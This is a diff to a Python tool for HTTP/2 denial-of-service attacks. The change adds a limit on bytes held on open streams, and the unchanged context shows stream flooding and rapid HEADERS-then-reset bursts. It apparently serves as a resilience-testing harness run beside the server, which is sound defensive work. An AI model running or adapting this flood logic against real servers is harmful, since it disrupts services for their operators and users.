@@ -34,7 +34,8 @@ class Plan:
     fewer if the server says so. per_second: calls or pings of all connections together. bytes_per_second: of their
     messages (a gigabit line): the attacker shares the machine with the server, which must not wait for it. first: a
     whole message before the one that never ends; hex. deaf: it accepts no replies. most_bytes: of messages, after which
-    the attack ends; 0: no limit.
+    the attack ends; 0: no limit. most_held_bytes: of messages on streams that are open; while they have as many, the
+    attack waits until the server ends some; 0: it never waits.
     """
 
     kind: str
@@ -48,6 +49,7 @@ class Plan:
     first: str = ""
     deaf: bool = False
     most_bytes: int = 0
+    most_held_bytes: int = 0
 
 
 @dataclass
@@ -75,11 +77,17 @@ class Pace:
         self._began = time.monotonic()
         self._spent = 0.0  # in seconds
         self._bytes = 0
+        self.held_bytes = 0  # of messages on open streams
 
     @property
     def over(self) -> bool:
         enough = 0 < self._plan.most_bytes <= self._bytes
         return enough or time.monotonic() - self._began >= self._plan.seconds
+
+    @property
+    def waits(self) -> bool:
+        """True while the open streams have all the bytes that they may have."""
+        return 0 < self._plan.most_held_bytes <= self.held_bytes
 
     async def spend(self, calls: int = 0, count: int = 0) -> None:
         """Waits until that many more calls, or bytes of messages, may be sent."""
@@ -101,6 +109,7 @@ class Connection:
         self._window = 65535
         self._stream_window = 65535
         self._windows: dict[int, int] = {}  # of open streams
+        self._held: dict[int, int] = {}  # bytes of their messages
         self._limit = plan.streams
         self._changed = asyncio.Event()
         self._why = ""
@@ -112,7 +121,8 @@ class Connection:
         while not self._pace.over:
             host, _, port = self._target.rpartition(":")
             self._next, self._window, self._why = 1, 65535, ""
-            self._windows.clear()
+            for stream in list(self._windows):
+                self._forget(stream)
             try:
                 self._reader, self._writer = await asyncio.open_connection(host, int(port))
             except OSError:
@@ -157,7 +167,7 @@ class Connection:
                     del rest[stream]
                     continue
                 count = min(self._window, self._windows[stream], rest[stream], MAX_FRAME_BYTES)
-                if count > 0:
+                if count > 0 and not self._pace.waits:
                     await self._pace.spend(count=count)
                     if stream not in self._windows:
                         continue
@@ -165,6 +175,8 @@ class Connection:
                     self._window -= count
                     self._windows[stream] -= count
                     rest[stream] -= count
+                    self._held[stream] = self._held.get(stream, 0) + count
+                    self._pace.held_bytes += count
                     self._sent.bytes += count
                     moved = True
             await self._drain()
@@ -177,7 +189,7 @@ class Connection:
             for _ in range(64):
                 stream = await self._begin(paced=True)
                 self._writer.write(_frame(RESET, 0, stream, struct.pack(">I", 8)))
-                self._windows.pop(stream, None)
+                self._forget(stream)
                 self._sent.resets += 1
             await self._drain()
 
@@ -210,6 +222,10 @@ class Connection:
         if not paced:
             await self._drain()
         return stream
+
+    def _forget(self, stream: int) -> None:
+        self._windows.pop(stream, None)
+        self._pace.held_bytes -= self._held.pop(stream, 0)
 
     async def _room(self) -> None:
         while len(self._windows) >= self._limit:
@@ -264,7 +280,7 @@ class Connection:
         elif kind == PING and not flags & ACK:
             self._writer.write(_frame(PING, ACK, 0, payload))
         elif kind == RESET or (kind in (HEADERS, DATA) and flags & 1):
-            self._windows.pop(stream, None)
+            self._forget(stream)
             if kind != RESET:  # the call has ended for the server only; reset the client's side
                 self._writer.write(_frame(RESET, 0, stream, struct.pack(">I", 8)))
         elif kind == GOAWAY:
